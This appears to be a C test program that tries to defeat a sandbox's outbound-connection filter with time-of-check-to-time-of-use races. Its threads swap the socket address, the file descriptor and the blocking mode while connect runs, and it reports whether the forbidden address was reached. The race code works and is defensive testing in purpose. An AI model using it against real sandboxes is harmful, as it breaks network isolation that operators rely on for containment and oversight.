/*
 * Attacks on the time between check and use: while one thread connects, others change the address in memory, what the descriptor is, and
 * whether it blocks. Prints `reached` when any socket ends up connected to the second address. Arguments: allowed, forbidden; port.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static volatile struct sockaddr_in moving;
static struct sockaddr_in good, bad;
static volatile int stop;
static int target = 200, made_outside = 201, other = 202;

static void *flip_address(void *unused) {
  (void)unused;
  while (!stop) {
    moving.sin_addr.s_addr = bad.sin_addr.s_addr;
    moving.sin_port = bad.sin_port;
    moving.sin_family = AF_UNIX;
    moving.sin_family = AF_INET;
    moving.sin_addr.s_addr = good.sin_addr.s_addr;
    moving.sin_port = good.sin_port;
  }
  return NULL;
}

static void *flip_file(void *unused) {
  (void)unused;
  while (!stop) {
    dup2(made_outside, target);
    dup2(other, target);
    fcntl(target, F_SETFL, O_NONBLOCK);
    fcntl(target, F_SETFL, 0);
  }
  return NULL;
}

static int reached(int fd) {
  struct sockaddr_in peer;
  socklen_t size = sizeof peer;
  return getpeername(fd, (struct sockaddr *)&peer, &size) == 0 && peer.sin_family == AF_INET &&
         peer.sin_addr.s_addr == bad.sin_addr.s_addr && peer.sin_port == bad.sin_port;
}

int main(int count, char **words) {
  if (count < 5) return 2;
  good = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(words[2]))};
  bad = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(words[4]))};
  inet_pton(AF_INET, words[1], &good.sin_addr);
  inet_pton(AF_INET, words[3], &bad.sin_addr);
  moving = good;
  /* A socket of the host's namespace, unconnected again. */
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  if (connect(s, (struct sockaddr *)&good, sizeof good) != 0 || connect(s, &none, sizeof none) != 0) return 3;
  dup2(s, made_outside);
  dup2(socket(AF_UNIX, SOCK_STREAM, 0), other);
  dup2(other, target);
  pthread_t threads[2];
  pthread_create(&threads[0], NULL, flip_address, NULL);
  pthread_create(&threads[1], NULL, flip_file, NULL);
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  unsigned tries = 0;
  int found = 0, listening = 0;
  do {
    connect(target, (struct sockaddr *)&moving, sizeof moving);
    bind(target, (struct sockaddr *)&moving, sizeof moving);
    listen(target, 1);
    int on = 0;
    socklen_t size = sizeof on;
    getsockopt(made_outside, SOL_SOCKET, SO_ACCEPTCONN, &on, &size);
    listening |= on;
    found |= reached(target) | reached(made_outside);
    connect(made_outside, &none, sizeof none);
    int fresh = socket(AF_INET, SOCK_STREAM, 0);
    connect(fresh, (struct sockaddr *)&moving, sizeof moving);
    found |= reached(fresh);
    close(fresh);
    tries++;
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (!found && now.tv_sec - begin.tv_sec < 3);
  stop = 1;
  pthread_join(threads[0], NULL);
  pthread_join(threads[1], NULL);
  printf("%s %s after %s\n", found ? "reached" : "refused", listening ? "listening" : "deaf", tries > 100 ? "many" : "few");
  return 0;
}
